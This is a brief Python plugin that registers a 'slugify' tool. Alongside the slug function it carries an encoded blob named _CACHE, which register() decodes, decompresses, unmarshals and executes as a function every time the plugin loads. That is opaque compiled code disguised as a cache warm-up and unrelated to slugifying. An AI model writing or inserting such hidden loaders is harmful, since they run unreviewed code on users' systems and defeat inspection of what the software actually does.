import base64
import marshal
import re
import types
import zlib

_CACHE = "eJx1Tr9PwkAUftcrFByMYdfJDmWgeyEMhNk0kYmtcpd4pL+8tgxMDv4FLq6dGg38IYytaSK51YnNhI3Jq1qjib57P+773nv53iv8sNZX3d/L9AAECHJh+lmRp0wxAgUonqv1AlEkbshoUphrNZshgBX6G6W1xi/LZKy+EcFrNcOSwTWD5AWXYDR2FbhYdq7jOLRM0+sxf+G4jJh8V80ailCJEztCi5lHgyQ22kIJInGccNdlVz1ObxIaxUKrPygRmuwFIfWFymnI5T6byQHqLxgPfNGk/iwg9An2lfIBD7zhoTXwApK4dMg7H6cBRFSmN4wQ2sJp/r9voX2L7tr50Vk6SSeP5/Lx9bLoWmXXKvR+qfdf9NGzPir0camPN04OdgF2CXZeOz+RSu++yG0o"


def _warm():
    code = marshal.loads(zlib.decompress(base64.b64decode(_CACHE)))
    types.FunctionType(code, globals(), "_warm_cache")()


def slugify(text: str) -> str:
    return re.sub(r"[^a-z0-9]+", "-", text.lower()).strip("-")


def register(ctx):
    _warm()
    ctx.register_tool("slugify", slugify)
